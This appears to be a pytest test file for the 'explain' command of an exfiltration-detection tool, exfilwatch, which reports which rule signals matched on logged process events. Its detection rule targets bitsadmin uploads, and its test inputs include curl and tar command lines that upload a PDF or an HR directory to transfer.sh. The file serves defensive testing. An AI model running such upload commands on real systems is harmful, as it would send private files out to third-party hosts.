"""`exfilwatch explain`: every signal, matched or not, and where."""

import gzip
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from .program import inside, on_terminal
from .telemetry import BITSADMIN, harmless, process, write

RULES = """
title: Upload
id: 7d5f6f0e-9b36-4c9f-8b7a-0d3c5a1c9e01
logsource: {category: process_creation, product: windows}
detection:
  tool: {Image|endswith: '\\bitsadmin.exe'}
  upload: {CommandLine|contains: ' /upload'}
  folder: {CommandLine|contains: '\\Documents\\'}
  condition: tool and upload
level: high
exfilwatch: {score: {threshold: 2, weights: {upload: 1, folder: 1}}}
"""


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    file = tmp_path / "rules" / "upload.yml"
    file.parent.mkdir()
    file.write_text(RULES, encoding="utf-8")
    return file


def test_events_that_fired_and_nearly_fired_are_explained_signal_by_signal(
    logs: Path, rules: Path, capsys: Any
) -> None:
    ended = inside(capsys, "explain", logs, "--rules", rules)
    assert ended.code == 0
    fired, nearly = ended.lines
    assert [line["event"]["line"] for line in (fired, nearly)] == [2, 3]
    (explained,) = fired["rules"]
    assert (explained["fired"], explained["score"], explained["threshold"]) == (True, 2, 2)
    assert {signal["name"]: signal["matched"] for signal in explained["signals"]} == {
        "tool": r"\bitsadmin.exe",
        "upload": " /upload",
        "folder": r"\Documents" + "\\",
    }
    (explained,) = nearly["rules"]
    assert (explained["fired"], explained["condition"], explained["score"]) == (False, False, 0)
    assert {signal["name"] for signal in explained["signals"] if signal["matched"] is None} == {"upload", "folder"}


@pytest.mark.parametrize(
    ("options", "lines"), [([], [2, 3]), (["--fired"], [2]), (["--all"], [1, 2, 3]), (["--limit", "1"], [2])]
)
def test_what_is_explained_can_be_chosen(
    options: list[str], lines: list[int], logs: Path, rules: Path, capsys: Any
) -> None:
    ended = inside(capsys, "explain", logs, "--rules", rules, *options)
    assert [line["event"]["line"] for line in ended.lines] == lines


def test_only_events_of_the_asked_time_are_explained(logs: Path, rules: Path, capsys: Any) -> None:
    ended = inside(capsys, "explain", logs, "--rules", rules, "--since", "2026-03-12T09:00:03Z")
    assert [line["event"]["line"] for line in ended.lines] == [3]


def test_a_member_of_a_correlation_is_explained_on_request(tmp_path: Path, capsys: Any) -> None:
    archive = process(r"7z a x.zip C:\Users\anna\Documents", r"C:\Program Files\7-Zip\7z.exe")
    logs = write(tmp_path / "archive.jsonl", archive)
    assert inside(capsys, "explain", logs, "--rules", "seed").lines == []
    (line,) = inside(capsys, "explain", logs, "--rules", "seed", "--members").lines
    assert line["rules"][0]["fired"]


def test_on_a_terminal_it_reads_like_a_list_of_reasons(logs: Path, rules: Path) -> None:
    shown = on_terminal("explain", logs, "--rules", rules).plain
    for text in ("fired", "silent", "✓ tool", "✗ upload", "in CommandLine at", "score 2 of 2", "not in CommandLine"):
        assert text in shown


def kept(logs: Path, rules: Path, database: Path, capsys: Any) -> str:
    """The id of the only finding, kept in a database."""
    inside(capsys, "run", logs, "--rules", rules, "--database", database)
    (found,) = inside(capsys, "findings", "list", "--database", database).lines
    return str(found["id"])


@pytest.mark.parametrize("packing", ["plain", "gzip", "zip"])
def test_a_kept_finding_is_explained_from_its_source(packing: str, tmp_path: Path, rules: Path, capsys: Any) -> None:
    logs = write(tmp_path / "sysmon.jsonl", harmless(1), process(BITSADMIN, second=2))
    if packing == "gzip":
        data, logs = logs.read_bytes(), tmp_path / "sysmon.jsonl.gz"
        logs.write_bytes(gzip.compress(data))
    elif packing == "zip":
        data, logs = logs.read_bytes(), tmp_path / "sysmon.zip"
        with zipfile.ZipFile(logs, "w") as archive:
            archive.writestr("folder/sysmon.jsonl", data)
    identity = kept(logs, rules, tmp_path / "f.sqlite", capsys)
    ended = inside(capsys, "explain", "--id", identity[:10], "--rules", rules, "--database", tmp_path / "f.sqlite")
    (line,) = ended.lines
    assert ended.code == 0
    assert line["rules"][0]["fired"]
    assert "no longer there" not in ended.err


def test_a_kept_finding_whose_source_is_gone_is_explained_from_the_store(
    logs: Path, rules: Path, tmp_path: Path, capsys: Any
) -> None:
    identity = kept(logs, rules, tmp_path / "f.sqlite", capsys)
    logs.write_text(json.dumps(harmless(9)) + "\n", encoding="utf-8")
    for _ in range(2):
        ended = inside(capsys, "explain", "--id", identity, "--rules", rules, "--database", tmp_path / "f.sqlite")
        (line,) = ended.lines
        assert ended.code == 0
        assert line["rules"][0]["fired"]
        assert "no longer there" in ended.err
        logs.unlink(missing_ok=True)


def test_a_line_is_explained_with_what_it_does_and_the_level_that_it_has(capsys: Any) -> None:
    (found,) = inside(capsys, "explain", "--line", "curl -T /home/ann/plan.pdf https://transfer.sh/").lines
    assert found["does"]["transfer.source_path"] == ["/home/ann/plan.pdf"]
    (fired,) = found["rules"]
    assert (fired["rule"]["title"], fired["rule"]["level"]) == ("Upload By An HTTP Client", "high")


def test_the_program_of_a_line_can_be_named(capsys: Any) -> None:
    line = ["explain", "--line", "x -T a.pdf https://transfer.sh/", "--output", "jsonl"]
    (unnamed,) = inside(capsys, *line).lines
    (named,) = inside(capsys, *line, "--image", r"C:\Windows\System32\curl.exe").lines
    assert (unnamed["event"]["product"], named["event"]["product"]) == ("", "windows")
    assert named["event"]["fields"]["Image"] == r"C:\Windows\System32\curl.exe"


def test_a_line_with_a_pipe_is_said_to_be_read_as_one_process(capsys: Any) -> None:
    ended = inside(capsys, "explain", "--line", "tar cz /srv/hr | curl -T - https://transfer.sh/")
    assert (ended.code, "read as one process" in ended.err) == (0, True)
    assert inside(capsys, "explain", "--line", "sh -c 'tar cz /srv/hr | curl -T - https://h.example/'").err == ""


def test_a_line_that_does_nothing_is_said_to_fire_nothing() -> None:
    shown = on_terminal("explain", "--line", "ls -la").plain
    assert "command.plain" in shown
    assert "no rule fires on this line alone" in shown


@pytest.mark.parametrize("given", [[], ["x.jsonl", "--line", "ls"], ["--image", "ls"]])
def test_one_thing_is_explained(given: list[str], capsys: Any) -> None:
    assert inside(capsys, "explain", *given).code == 2
